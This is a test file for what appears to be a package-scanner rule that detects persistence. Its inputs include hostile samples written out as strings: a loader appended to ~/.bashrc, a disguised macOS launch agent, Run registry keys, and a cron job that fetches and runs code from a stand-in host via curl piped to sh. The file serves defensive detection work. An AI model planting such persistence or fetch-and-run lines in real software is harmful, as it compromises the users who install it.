import { describe, expect, it } from 'vitest'
import rule, { autostartCommand } from '../../rules/persistence.ts'
import { RuleTester } from '../../src/rule-tester/index.ts'

new RuleTester().run(rule, {
  valid: [
    { name: 'printing the line to add to .bashrc (no write)', code: "console.log('Add this to ~/.bashrc:\\n  export PATH=$PATH:' + __dirname)" },
    { name: 'reading .bashrc', code: "const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8')" },
    { name: 'listing the crontab', code: "require('child_process').execSync('crontab -l')" },
    { name: 'writing a file in the package', code: "require('fs').writeFileSync(__dirname + '/profile.json', '{}')" },
    { name: 'an install script that builds', manifest: { name: 'a', version: '1.0.0', scripts: { postinstall: 'node-gyp rebuild' } } },
  ],
  invalid: [
    {
      name: 'appending a loader to ~/.bashrc at install time: high',
      installTime: true,
      code: "const fs = require('fs'), os = require('os'), path = require('path')\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nnode ~/.cache/.x.js &\\n')",
      errors: [{ severity: 'high', line: 2, message: /^Writes to ~\/\.bashrc, a shell startup file/ }],
    },
    {
      name: 'a macOS launch agent written by library code: medium',
      code: "const fs = require('fs'), os = require('os')\nfs.writeFileSync(os.homedir() + '/Library/LaunchAgents/com.apple.update.plist', plist)",
      errors: [{ severity: 'medium', message: /LaunchAgents\/com\.apple\.update\.plist, a macOS launch agent/ }],
    },
    {
      name: 'a systemd user unit',
      code: "const fs = require('fs'), os = require('os'), path = require('path')\nfs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'sync.service'), unit)",
      errors: [{ message: /a systemd unit/ }],
    },
    {
      name: 'a crontab entry piped in from install code',
      installTime: true,
      code: "require('child_process').execSync('(crontab -l; echo \"*/5 * * * * curl -s http://x.example/p | sh\") | crontab -')",
      errors: [{ severity: 'high', message: /installs a crontab/ }],
    },
    {
      name: 'a Run registry key',
      code: "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Updater /d C:\\\\u.exe /f')",
      errors: [{ severity: 'medium', message: /adds a Run registry key/ }],
    },
    {
      name: 'a preinstall script that appends to .zshrc',
      manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: 'echo "node $PWD/x.js" >> ~/.zshrc' } },
      errors: [{ severity: 'high', file: 'package.json', message: /^The preinstall script appends to a shell startup file/ }],
    },
  ],
})

describe('autostartCommand', () => {
  it('knows scheduling and autostart commands, and not their read-only forms', () => {
    expect(autostartCommand('schtasks /create /sc onlogon /tn x /tr c:\\x.exe')).toBe('creates a scheduled task')
    expect(autostartCommand('launchctl load ~/Library/LaunchAgents/x.plist')).toBe('loads a macOS launch agent')
    expect(autostartCommand('systemctl --user enable x.service')).toBe('enables a systemd unit')
    expect(autostartCommand('crontab /tmp/jobs')).toBe('installs a crontab')
    expect(autostartCommand("New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value c:\\u.exe")).toBe('adds a Run registry key')
    expect(autostartCommand('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunServices')).toBeUndefined()
    expect(autostartCommand('reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run')).toBeUndefined()
    expect(autostartCommand('crontab -l')).toBeUndefined()
    expect(autostartCommand('schtasks /query')).toBeUndefined()
    expect(autostartCommand('systemctl status x')).toBeUndefined()
  })
})
